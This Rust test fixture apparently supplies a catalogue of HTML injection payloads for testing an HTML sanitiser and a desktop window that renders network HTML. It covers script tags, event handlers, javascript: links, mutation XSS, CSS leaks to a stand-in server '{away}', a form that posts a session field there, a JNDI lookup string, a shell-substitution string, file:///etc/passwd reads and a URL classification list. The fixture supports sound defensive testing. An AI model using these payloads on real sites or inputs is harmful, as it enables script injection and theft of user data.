//! Known attacks on a program that shows HTML of the network, by family. The sanitiser's tests and the tests of the real
//! window read the same table, so it must name nothing but the standard library.
//!
//! `{away}` stands for a server that nobody should come to, `{host}` for its name alone; [`aimed`] fills them in. What runs
//! sets `ran`.

/// An attack: what it is, and the text that attacks.
pub type Attack = (&'static str, &'static str);

/// An attack aimed at the server `away`, whose address has no slash at its end.
pub fn aimed(attack: &str, away: &str) -> String {
    attack.replace("{away}", away).replace("{host}", away.trim_start_matches("http://"))
}

/// What is not a constant text, or needs room: deep nesting and large attributes.
pub fn large() -> Vec<(&'static str, String)> {
    vec![
        ("formatting nested 1 000 deep", "<b><i>".repeat(500) + "<script>ran=1</script>deep"),
        ("blocks nested 1 900 deep", "<div>".repeat(1_900) + "<img src=x onerror=ran=1>deep"),
        ("tables in tables", "<table><tr><td>".repeat(300) + "<img src={away}/table.png onerror=ran=1>"),
        ("an attribute of 200 000 bytes", format!("<p title=\"{}\" onclick=ran=1>x</p>", "a".repeat(200_000))),
        ("5 000 attributes of two names", format!("<p {} onclick=ran=1>x</p>", "a=1 on=2 ".repeat(2_500))),
        ("entities without end", "&lt;&amp;&#x3c;".repeat(4_000) + "<img src=x onerror=ran=1>"),
        ("a script beyond the cut", "x".repeat(256 * 1024 - 20) + "<script>ran=1</script>"),
        ("a comment of 100 000 bytes that never ends", format!("<!--{}<img src=x onerror=ran=1>", "-".repeat(100_000))),
    ]
}

/// Attacks as text of a field.
pub const ATTACKS: &[Attack] = &[
    // Scripts (OWASP: basic tests, malformed tags, no closing tag, protocol-relative, encoded).
    ("script", "<script>ran=1</script>"),
    ("script from elsewhere", "<script src={away}/script.js></script>"),
    ("module script", "<script type=module src={away}/module.js></script>"),
    ("script with a slash", "<SCRIPT/SRC=\"{away}/slash.js\"></SCRIPT>"),
    ("script with no end", "<script src={away}/open.js?<b>"),
    ("nested script", "<<script>ran=1;//<</script>"),
    ("script in two halves", "<scr<script>ipt>ran=1</scr</script>ipt>"),
    ("script in upper case with a break", "<ScRiPt\n>ran=1</sCrIpT\n>"),
    ("script after a null byte", "<scr\u{0}ipt>ran=1</scr\u{0}ipt>"),
    ("script behind a quote", "\"><script>ran=1</script>"),
    ("script closing a title", "</title><script>ran=1</script>"),
    ("script closing a text area", "</textarea></style></noscript><script>ran=1</script>"),
    ("full-width brackets", "\u{ff1c}script\u{ff1e}ran=1\u{ff1c}/script\u{ff1e}"),
    ("UTF-7", "+ADw-script+AD4-ran=1+ADw-/script+AD4-"),
    ("entities that spell a tag", "&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;"),
    ("entities twice", "&amp;lt;img src=x onerror=ran=1&amp;gt;"),
    // Handlers.
    ("onerror", "<img src=x onerror=ran=1>"),
    ("onerror without quotes and spaces", "<img/src=x/onerror=ran=1>"),
    ("onerror behind a back-tick", "<img src=`x`onerror=ran=1>"),
    ("onerror after a form feed", "<img\u{c}src=x\u{c}onerror=ran=1>"),
    ("onerror after a null byte", "<img src=x on\u{0}error=ran=1>"),
    ("onerror in a broken attribute", "<img \"\"\"><img src=x onerror=\"ran=1\">\">"),
    ("onload", "<svg onload=ran=1>"),
    ("onload without a space", "<svg/onload=ran=1//"),
    ("body onload", "<body onload=ran=1 background={away}/background.png>"),
    ("onfocus with autofocus", "<input autofocus onfocus=ran=1><a tabindex=0 autofocus onfocus=ran=1>x</a>"),
    ("ontoggle", "<details open ontoggle=ran=1><summary>x</summary></details>"),
    ("popover and beforetoggle", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=ran=1>x</div>"),
    ("onstart of a marquee", "<marquee onstart=ran=1>x</marquee>"),
    ("onpointerover across the page", "<p style=\"position:fixed;inset:0\" onpointerover=ran=1 onclick=ran=1>x</p>"),
    ("animation event", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=ran=1>x</b>"),
    ("transition event", "<b style=\"transition:outline 1s\" ontransitionend=ran=1 tabindex=1 autofocus>x</b>"),
    (
        "scroll snap event",
        "<div onscrollsnapchange=ran=1 oncontentvisibilityautostatechange=ran=1 style=content-visibility:auto>x</div>",
    ),
    (
        "media events",
        "<video src={away}/video onerror=ran=1 onloadstart=ran=1 autoplay></video><audio src={away}/audio onerror=ran=1>",
    ),
    ("source in a video", "<video><source src={away}/source onerror=ran=1><track src={away}/track></video>"),
    // Addresses.
    ("javascript link", "<a href=\"javascript:ran=1\">x</a>"),
    ("javascript link with a tab", "<a href=\"jav&#x09;ascript:ran=1\">x</a>"),
    ("javascript link with a line break", "<a href=\"java\nscript&colon;ran=1\">x</a>"),
    ("javascript link after control characters", "<a href=\"&#1;&#14; javascript:ran=1\">x</a>"),
    (
        "javascript link in entities",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran=1\">x</a>",
    ),
    ("javascript link in long entities", "<a href=\"&#x000006A&#0000097vascript:ran=1\">x</a>"),
    (
        "vbscript, data, blob and file links",
        "<a href=vbscript:ran(1)>x</a><a href='data:text/html,<script>parent.ran=1</script>'>x</a><a href=blob:null/1>x</a><a href=file:///etc/passwd>x</a>",
    ),
    (
        "link to the top",
        "<a href={away}/top target=_top ping={away}/ping>x</a><a href={away}/blank target=_blank>x</a>",
    ),
    ("link that downloads", "<a href={away}/file.exe download>x</a>"),
    ("area of a map", "<map name=m><area shape=default href=javascript:ran=1></map><img usemap=#m src={away}/map.png>"),
    ("base", "<base href={away}/ target=_top><a href=x>x</a>"),
    ("meta refresh", "<meta http-equiv=refresh content=\"0;url={away}/refresh\">"),
    ("meta refresh to a script", "<meta http-equiv=refresh content=\"0;javascript:ran=1\">"),
    (
        "meta policy and cookie",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta http-equiv=Set-Cookie content=a=1>",
    ),
    // What loads.
    ("picture", "<img src={away}/image.png>"),
    ("picture in a set", "<img srcset='{away}/one.png 1x, {away}/two.png 2x'>"),
    ("picture element", "<picture><source srcset={away}/source.png><img src={away}/fallback.png></picture>"),
    ("picture by protocol-relative address", "<img src=//{host}/image.png>"),
    ("input picture", "<input type=image src={away}/input.png onerror=ran=1>"),
    ("lazy picture", "<img loading=lazy src={away}/lazy.png><image href={away}/image.png>"),
    ("frame", "<iframe src={away}/frame></iframe><frameset><frame src={away}/frameset></frameset>"),
    ("frame with a script address", "<iframe src=javascript:parent.ran=1></iframe>"),
    ("frame with a document", "<iframe srcdoc=\"<script>parent.ran=1</script><img src={away}/srcdoc.png>\"></iframe>"),
    (
        "object and embed",
        "<object data={away}/object></object><embed src={away}/embed><applet code={away}/applet></applet>",
    ),
    (
        "object with a document",
        "<object data=\"data:text/html,<script>parent.ran=1</script>\"></object><embed src=javascript:ran=1>",
    ),
    ("style sheet", "<link rel=stylesheet href={away}/style.css>"),
    (
        "prefetch, preconnect and preload",
        "<link rel=dns-prefetch href={away}><link rel=preconnect href={away}><link rel=prefetch href={away}/prefetch><link rel=preload as=image href={away}/preload><link rel=modulepreload href={away}/module.js><link rel=icon href={away}/icon>",
    ),
    ("import", "<link rel=import href={away}/import.html><link rel=manifest href={away}/manifest>"),
    ("speculation rules", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"{away}/speculated\"]}]}</script>"),
    ("import map", "<script type=importmap>{\"imports\":{\"./dom.js\":\"{away}/dom.js\"}}</script>"),
    ("table background", "<table background={away}/table.png><td background={away}/cell.png>x</table>"),
    ("video poster", "<video poster={away}/poster.png></video>"),
    (
        "form that sends itself",
        "<form action={away}/form method=post><input name=sid autofocus><button formaction={away}/button>x</button></form>",
    ),
    (
        "form of the page",
        "<button form=app formaction=javascript:ran=1>x</button><isindex action=javascript:ran=1 type=submit>",
    ),
    // Style.
    (
        "overlay",
        "<div style=\"position:fixed;inset:0;z-index:2147483647;background:#fff;opacity:.01\">Sign in again</div>",
    ),
    (
        "style that hides the window",
        "<style>#app,body,html{display:none!important} *{pointer-events:none!important}</style>",
    ),
    (
        "style of the host",
        "<style>:host{position:fixed!important;inset:0} :host-context(body){display:none} ::slotted(*){display:none}</style>",
    ),
    ("style that imports", "<style>@import url({away}/import.css);@import '{away}/import2.css';</style>"),
    (
        "style that loads",
        "<style>*{background:url({away}/all.png)} @font-face{font-family:a;src:url({away}/font)} b{font-family:a}</style><b>x</b>",
    ),
    (
        "inline style that loads",
        "<b style=\"background:url('{away}/inline.png');list-style-image:url({away}/list.png);cursor:url({away}/cursor),auto\">x</b>",
    ),
    ("style that reads what is typed", "<style>input[value^=s]{background:url({away}/typed)}</style>"),
    (
        "expression and behaviour",
        "<b style=\"width:expression(ran=1);behavior:url({away}/x.htc);-moz-binding:url({away}/x.xml#x)\">x</b>",
    ),
    ("style with escapes", "<b style=\"\\62 ackground:\\75rl({away}/escaped.png)\">x</b>"),
    ("classes of the page", "<div class=\"dialog banner\" role=dialog aria-live=assertive><p class=row>x</p></div>"),
    ("margins out of the container", "<div style=\"margin:-9999px;transform:scale(99)\">x</div>"),
    // Names of the page.
    (
        "ids of the page",
        "<div id=app></div><p id=__TAURI__>x</p><p data-testid=pill>Online</p><p data-testid=sid>x</p>",
    ),
    (
        "names of the document",
        "<form name=body><input name=firstChild></form><img name=getElementById><img name=createElement><embed name=cookie>",
    ),
    (
        "names in a row",
        "<a id=__TAURI__><a id=__TAURI__ name=core href=clobbered:1>x</a></a><form id=ran><output id=x>1</output></form>",
    ),
    ("frame with a name", "<iframe name=__TAURI__ srcdoc=\"<a id=core></a>\"></iframe>"),
    (
        "custom element and shadow root",
        "<div><template shadowrootmode=open><script>ran=1</script><slot></slot></template></div><x-y is=z onclick=ran=1>x</x-y>",
    ),
    ("slot of the page", "<slot name=detail></slot><div slot=detail>x</div>"),
    // SVG and MathML.
    ("svg script", "<svg><script>ran=1</script><script href={away}/svg.js /></svg>"),
    (
        "svg use",
        "<svg><use href=\"{away}/use.svg#x\" /><use xlink:href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg>#x\" /></svg>",
    ),
    (
        "svg animate",
        "<svg><a><animate attributeName=href values=javascript:ran=1 /><text>x</text></a><animate onbegin=ran=1 attributeName=x dur=1s></svg>",
    ),
    ("svg set", "<svg><set attributeName=onmouseover to=ran=1 /><set onend=ran=1 attributeName=x dur=1ms /></svg>"),
    (
        "svg picture and filter",
        "<svg><image href={away}/svg.png onload=ran=1 /><feImage href={away}/filter.png /><style>@import '{away}/svg.css'</style></svg>",
    ),
    (
        "svg foreignObject",
        "<svg><foreignObject><iframe src=javascript:parent.ran=1></iframe><body onload=ran=1></foreignObject></svg>",
    ),
    (
        "MathML link",
        "<math href=javascript:ran=1><maction actiontype=statusline xlink:href=javascript:ran=1>x</maction></math>",
    ),
    // Mutation: harmless when read once, an attack when written and read again.
    ("mutation by noscript", "<noscript><p title=\"</noscript><img src=x onerror=ran=1>\"></noscript>"),
    ("mutation by style in svg", "<svg></p><style><a id=\"</style><img src=x onerror=ran=1>\">"),
    (
        "mutation by mglyph",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran=1&gt;\">",
    ),
    ("mutation by form in math", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran=1>"),
    (
        "mutation by annotation-xml",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=ran=1></style></annotation-xml></math>",
    ),
    ("mutation by template", "<template><s><template><s><img src=x onerror=ran=1>@</s>@</template></s></template>"),
    (
        "mutation by title in svg",
        "<svg><title><style><img src=x onerror=ran=1></style></title><desc><p><style><a title=\"</style><img src=x onerror=ran=1>\">",
    ),
    ("mutation by select", "<select><style></select><img src=x onerror=ran=1></style>"),
    ("mutation by back-ticks", "<img alt=\"``onerror=ran=1\"><p title=\"`><img src=x onerror=ran=1>\">x"),
    ("mutation by nested paragraphs", "<p><a><p><svg></p></a><style><!--</style>--><img src=x onerror=ran=1>"),
    ("mutation by xmp", "<xmp><p title=\"</xmp><img src=x onerror=ran=1>\"></xmp>"),
    (
        "mutation by noembed and noframes",
        "<noembed><img title=\"</noembed><img src=x onerror=ran=1>\"></noembed><noframes></noframes><img src=x onerror=ran=1>",
    ),
    // The parser.
    ("plaintext", "<plaintext><img src=x onerror=ran=1></plaintext>"),
    ("listing", "<listing>&lt;img src=x onerror=ran=1&gt;</listing>"),
    ("CDATA", "<svg><![CDATA[><img src=x onerror=ran=1>]]></svg><![CDATA[<script>ran=1</script>]]>"),
    ("comment that never ends", "x<!-- <b>y</b> <img src=x onerror=ran=1>"),
    ("comment that ends early", "<!--><img src=x onerror=ran=1>--><!---!><img src=x onerror=ran=1>-->"),
    (
        "conditional comment",
        "<!--[if gte IE 4]><script>ran=1</script><![endif]--><comment><img src=x onerror=ran=1></comment>",
    ),
    (
        "processing instruction",
        "<?xml-stylesheet href=\"javascript:ran=1\"?><?import namespace=t implementation={away}/x?><?php echo 1 ?>",
    ),
    ("document type", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>"),
    ("end tags of the page", "</div></article></main></body></html><script>ran=1</script><p>after</p>"),
    ("tag that never ends", "<img src=x onerror=ran=1 title=\""),
    ("attribute without a value", "<p onclick>x</p><p =onclick=ran=1>x</p><p / onclick=ran=1>x</p>"),
    ("names with odd characters", "<p on\u{130}click=ran=1 \u{17f}rc=x>x</p><\u{17f}cript>ran=1</\u{17f}cript>"),
    (
        "template of a framework",
        "{{constructor.constructor('ran=1')()}}${ran=1}<%= ran=1 %><div v-html=\"ran=1\" ng-init=\"ran=1\" x-init=\"ran=1\" hx-get={away}/hx hx-trigger=load>x</div>",
    ),
    (
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */ran=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran=1//>\\x3e",
    ),
    ("format string", "%s%n%x ${jndi:ldap://127.0.0.2/x} $(touch /tmp/x) `id`"),
    // Text that lies.
    ("text turned around", "\u{202e}gpj.exe\u{202c} \u{2066}x\u{2069} \u{200f}x"),
    ("text of no width", "pay\u{200b}pal\u{200d}.\u{2060}com\u{feff}"),
    ("control characters", "a\u{0}b\u{7}c\u{8}\u{8}\u{1b}[31md\u{1b}]8;;{away}\u{7}e\u{9b}f\u{7f}"),
    (
        "marks heaped upon a letter",
        "Z\u{35b}\u{323}\u{34e}\u{33c}\u{301}\u{302}\u{303}\u{304}\u{306}\u{307}\u{308}\u{30a}\u{30b}\u{30c}a\u{35b}\u{323}\u{34e}lgo",
    ),
    ("tags and variation selectors", "x\u{e0001}\u{e0041}\u{e0042}\u{e007f}\u{fe0f}\u{fff9}a\u{fffa}b\u{fffb}"),
    (
        "one long word",
        "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
    ),
];

/// What the wire document lets a link do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Leads {
    /// `https`: opens in the browser.
    Away,
    /// `http`: opens once the person has confirmed it.
    AfterAQuestion,
    /// Anything else.
    Nowhere,
}

/// Links of a button, and what each may do.
pub const LINKS: &[(&str, Leads)] = &[
    ("https://example.invalid/offer?a=1&b=%20#top", Leads::Away),
    ("HTTPS://EXAMPLE.invalid/", Leads::Away),
    ("https://example.invalid/?next=javascript:ran=1", Leads::Away),
    ("https://example.invalid/';touch%20x;'", Leads::Away),
    ("http://example.invalid/plain", Leads::AfterAQuestion),
    ("http://127.0.0.1:9/", Leads::AfterAQuestion),
    ("javascript:ran=1", Leads::Nowhere),
    ("JaVaScRiPt:ran=1", Leads::Nowhere),
    ("java\tscript:ran=1", Leads::Nowhere),
    ("java\nscript:ran=1", Leads::Nowhere),
    ("\u{1}javascript:ran=1", Leads::Nowhere),
    ("\u{a0}javascript:ran=1", Leads::Nowhere),
    ("javascript&colon;ran=1", Leads::Nowhere),
    ("&#106;avascript:ran=1", Leads::Nowhere),
    ("javascript://example.invalid/%0aran=1", Leads::Nowhere),
    ("vbscript:ran", Leads::Nowhere),
    ("data:text/html,<script>ran=1</script>", Leads::Nowhere),
    ("data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==", Leads::Nowhere),
    ("blob:https://example.invalid/0", Leads::Nowhere),
    ("blob:null", Leads::Nowhere),
    ("file:///etc/passwd", Leads::Nowhere),
    ("file://example.invalid/share", Leads::Nowhere),
    ("smb://example.invalid/share", Leads::Nowhere),
    ("ftp://example.invalid/", Leads::Nowhere),
    ("mailto:someone@example.invalid", Leads::Nowhere),
    ("tel:+1", Leads::Nowhere),
    ("ms-settings:privacy", Leads::Nowhere),
    ("traybell://sign-in?environment=https://example.invalid&brand=x", Leads::Nowhere),
    ("tauri://localhost/index.html", Leads::Nowhere),
    ("picture://localhost/1", Leads::Nowhere),
    ("about:blank", Leads::Nowhere),
    ("view-source:https://example.invalid/", Leads::Nowhere),
    ("/relative", Leads::Nowhere),
    ("relative", Leads::Nowhere),
    ("#fragment", Leads::Nowhere),
    ("?query", Leads::Nowhere),
    ("//example.invalid/x", Leads::Nowhere),
    ("\\\\example.invalid\\share", Leads::Nowhere),
    ("--help", Leads::Nowhere),
    ("https://", Leads::Nowhere),
    ("https:///", Leads::Nowhere),
    ("https://bank.invalid@example.invalid/", Leads::Nowhere),
    ("https://user:password@example.invalid/", Leads::Nowhere),
    ("https://exam\u{0}ple.invalid/", Leads::Nowhere),
    ("https://exam\r\nple.invalid/", Leads::Nowhere),
];
